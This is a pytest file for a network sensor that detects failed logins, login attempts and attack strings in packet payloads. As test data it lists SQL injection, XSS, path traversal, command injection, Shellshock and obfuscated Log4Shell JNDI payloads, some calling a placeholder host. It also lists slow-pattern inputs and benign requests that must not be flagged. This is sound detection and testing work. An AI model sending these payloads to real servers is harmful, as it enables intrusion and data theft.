"""What payloads say: logins, refusals, attack strings, probes, and what must stay silent."""

from __future__ import annotations

import struct
import time
from urllib.parse import quote

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agents.sensor.flows.decode import decode
from agents.sensor.payloads import payload as looking
from agents.sensor.payloads.attack_strings import COMMAND, SQL_INJECTION, TRAVERSAL, XSS
from agents.sensor.payloads.payload import MAX_BYTES, SSH_BANNER, VERSION_PROBE, PayloadReader
from datasets.captures.pcap import RawPackets


def frame(payload: bytes, sport: int, dport: int, udp: bool = False) -> bytes:
    head = struct.pack(">HHIIBBHHH", sport, dport, 1, 1, 0x50, 24, 9, 0, 0)
    if udp:
        head = struct.pack(">HHHH", sport, dport, 8 + len(payload), 0)
    size = 20 + len(head) + len(payload)
    ip = struct.pack(">BBHHHBBHII", 0x45, 0, size, 0, 0, 64, 17 if udp else 6, 0, 1, 2)
    return bytes(12) + b"\x08\0" + ip + head + payload


def found(
    payload: bytes, sport: int = 40000, dport: int = 80, udp: bool = False
) -> tuple[int, int, int]:
    """What is marked on one packet, with others around it that say nothing."""
    silent = frame(b"nothing here", 1, 2)
    frames = [silent, frame(payload, sport, dport, udp), silent]
    lengths = np.array([len(f) for f in frames])
    raw = RawPackets(
        np.frombuffer(b"".join(frames), np.uint8),
        np.cumsum(lengths) - lengths, lengths, lengths, np.arange(3), 1,
    )  # fmt: skip
    marks = PayloadReader().look_up(decode(raw))
    if not len(marks.index):
        return (0, 0, 0)
    assert marks.index.tolist() == [1]
    return (
        int(marks.failed_logins[0]), int(marks.login_attempts[0]), int(marks.indicators[0])
    )  # fmt: skip


def get(target: str, headers: str = "") -> bytes:
    return f"GET {target} HTTP/1.1\r\nHost: x\r\n{headers}\r\n".encode("latin-1")


@pytest.mark.parametrize(
    ("payload", "sport", "dport", "expected"),
    [
        (b"530 Login incorrect.\r\n", 21, 4000, (1, 0, 0)),
        (b"530-Sorry\r\n530 no\r\n", 21, 4000, (1, 0, 0)),
        (b"535 5.7.8 Error: authentication failed\r\n", 25, 4000, (1, 0, 0)),
        (b"-ERR [AUTH] Invalid login\r\n", 110, 4000, (1, 0, 0)),
        (b"-ERR no such message\r\n", 110, 4000, (0, 0, 0)),
        (b"HTTP/1.1 401 Unauthorized\r\n\r\n", 80, 4000, (1, 0, 0)),
        (b"HTTP/1.1 200 OK\r\nX: 401\r\n\r\n", 80, 4000, (0, 0, 0)),
        (b"HTTP/1.1 404 Not found 401\r\n\r\n", 80, 4000, (0, 0, 0)),
        (b"\r\nLogin incorrect\r\nlogin: ", 23, 4000, (1, 0, 0)),
        (b"Login incorrect", 4000, 5000, (0, 0, 0)),
        (b"a1 NO [AUTHENTICATIONFAILED] Authentication failed.\r\n", 143, 4000, (1, 0, 0)),
        (b"a1 NO Mailbox is full\r\n", 143, 4000, (0, 0, 0)),
        (b"PASS secret\r\n", 4000, 21, (0, 1, 0)),
        (b"pass secret\r\n", 4000, 110, (0, 1, 0)),
        (b"PASS a\r\nPASS b\r\n", 4000, 21, (0, 2, 0)),
        (b"PASSIVE\r\n", 4000, 21, (0, 0, 0)),
        (b"AUTH LOGIN\r\n", 4000, 25, (0, 1, 0)),
        (b"AUTH TLS\r\n", 4000, 21, (0, 0, 0)),
        (b"a1 LOGIN user pw\r\n", 4000, 143, (0, 1, 0)),
        (b"Password: ", 23, 4000, (0, 1, 0)),
        (get("/", "Authorization: Basic dTpw\r\n"), 4000, 80, (0, 1, 0)),
        (get("/", "AUTHORIZATION:bAsIc dTpw\r\n"), 4000, 80, (0, 1, 0)),
        (get("/", "Agent: <SCRIPT>\r\n"), 4000, 80, (0, 0, XSS)),
        (get("/", "Agent: ${JNDI:ldap://x}\r\n"), 4000, 80, (0, 0, COMMAND)),
        (b"SSH-2.0-OpenSSH_9.6\r\n", 22, 4000, (0, 0, SSH_BANNER)),
        (b"SSH-like text", 22, 4000, (0, 0, 0)),
    ],
)
def test_logins_refusals_and_banners(
    payload: bytes, sport: int, dport: int, expected: tuple[int, int, int]
) -> None:
    assert found(payload, sport, dport) == expected


ATTACKS = [
    ("/i?id=1' or '1'='1", SQL_INJECTION),
    ("/i?id=%' or 0=0 union select null, version()", SQL_INJECTION),
    ("/i?id=1 UNION/**/ALL/**/SELECT 1,2", SQL_INJECTION),
    ("/i?id=1; DROP TABLE users", SQL_INJECTION),
    ("/i?id=1 and sleep(5)", SQL_INJECTION),
    ("/i?name=admin'-- ", SQL_INJECTION),
    ("/i?q=<script>alert(1)</script>", XSS),
    ("/i?q=<img src=x onerror=alert(1)>", XSS),
    ("/i?q=\"><svg/onload=alert(1)>", XSS),
    ("/i?u=javascript:alert(1)", XSS),
    ("/../../../../etc/passwd", TRAVERSAL),
    ("/i?f=..\\..\\windows\\win.ini", TRAVERSAL),
    ("/i?f=/etc/passwd", TRAVERSAL),
    ("/i?f=php://filter/convert.base64-encode/resource=index", TRAVERSAL),
    ("/i?ip=127.0.0.1; cat /etc/hostname", COMMAND),
    ("/i?ip=1|id", COMMAND),
    ("/i?ip=$(whoami)", COMMAND),
    ("/i?ip=`uname -a`", COMMAND),
    ("/c/winnt/system32/cmd.exe?/c+dir", COMMAND),
    ("/C/WINNT/SYSTEM32/CMD.EXE", COMMAND),
    ("/i?f=/ETC/PASSWD", TRAVERSAL),
]  # fmt: skip


@pytest.mark.parametrize(("target", "indicator"), ATTACKS)
def test_attack_strings_are_found_plain_and_encoded_once_and_twice(
    target: str, indicator: int
) -> None:
    once = quote(target, safe="/?=&")
    blanks = target.replace(" ", "+")
    everything = "/" + "".join(f"%{ord(c):02x}" for c in target)
    for text in (once, quote(once, safe="/?=&"), blanks, everything):
        assert found(get(text))[2] & indicator, text
    body = b"POST /f HTTP/1.1\r\nHost: x\r\n\r\nfield=" + quote(target).encode()
    assert found(body)[2] & indicator


@pytest.mark.parametrize(
    "header",
    [
        "User-Agent: () { :; }; echo x\r\n",
        "X-Api: ${jndi:ldap://x/y}\r\n",
        "X-Api: ${${lower:j}ndi:ldap://x/y}\r\n",
        "X-Api: ${${::-j}${::-n}${::-d}i:rmi://x/y}\r\n",
        "X-Api: ${j${env:NONE:-n}di:dns://x}\r\n",
    ],
)
def test_attack_in_a_header(header: str) -> None:
    assert found(get("/", header))[2] == COMMAND


def test_second_request_in_the_same_packet_is_read_too() -> None:
    assert found(get("/") + get("/?q=<script>"))[2] == XSS


@pytest.mark.parametrize(
    "target",
    [
        "/search?q=select+the+best+from+union+square",
        "/a?id=5&ls=1&cat=2&type=3",
        "/i?name=O%27Brien&x=1",
        "/i?q=rock+%26+roll",
        "/i?q=a%3B+b",
        "/s?date=2024-01-01--2024-02-01&or=1",
        "/../style.css",
        "/js/onload.js?onload=init&callback=jQuery123",
        "/page?text=%3Cb%3Ebold%3C%2Fb%3E",
        "/id/cat/ping",
        "/drop;jsessionid=1234",
        "/script?lang=en",
        "/i?expr=(a+or+b)+and+c",
        "/?url=https%3A%2F%2Fexample.org%2Fa%3Fb%3Dc%26d%3D%2527",
    ],
)
def test_honest_requests_stay_silent(target: str) -> None:
    browser = "User-Agent: Mozilla/5.0 (X11; Linux) Gecko\r\nCookie: a=1; cat=2; id=3\r\n"
    assert found(get(target, browser)) == (0, 0, 0)


@pytest.mark.parametrize(("probe", "exact"), looking._PROBES)
def test_scanner_probes_are_known(probe: bytes, exact: bool) -> None:
    assert found(probe)[2] & VERSION_PROBE
    assert found(probe, udp=True)[2] & VERSION_PROBE
    assert bool(found(probe + b"more")[2] & VERSION_PROBE) is not exact


HOSTILE = [
    b"GET /" + b"'" * 4000,
    b"GET /?" + b"' or " * 800,
    b"GET /?" + b"union " * 700,
    b"GET /?" + b"<a " * 1300,
    b"GET /?" + b"<a\n" * 1300,
    b"GET /" + b"../" * 1300,
    b"GET /" + b"%25" * 1300,
    b"GET /" + b"/*" * 2000,
    b"POST / HTTP/1.0\r\n\r\n" + b"; " * 2000,
    b"GET /" + b"a" * 4000,
    b"GET / HTTP/1.0\r\n" + b"()" * 2000,
    b"a" * 31 + b" NO " + b"x" * 4000,
    b"PASS \n" * 700,
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_payloads_take_bounded_time(payload: bytes) -> None:
    """A quadratic pattern would take seconds on the unbounded text, these bounds milliseconds."""
    begin = time.process_time()
    for sport, dport in ((4000, 80), (143, 4000), (4000, 143), (23, 4000)):
        found(payload[: MAX_BYTES * 2], sport, dport)
    assert time.process_time() - begin < 0.5


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from([b"", b"GET ", b"POST / HTTP/1.1\r\n\r\n", b"530 ", b"HTTP", b"-ERR", b"SSH-"]),
    st.binary(max_size=300),
    st.sampled_from([21, 23, 80, 143]),
    st.booleans(),
)
def test_any_payload_is_read_without_error(
    head: bytes, rest: bytes, port: int, reply: bool
) -> None:
    ports = (port, 4000) if reply else (4000, port)
    failed, attempts, indicators = found(head + rest, *ports)
    assert min(failed, attempts) >= 0
    assert 0 <= indicators < 64
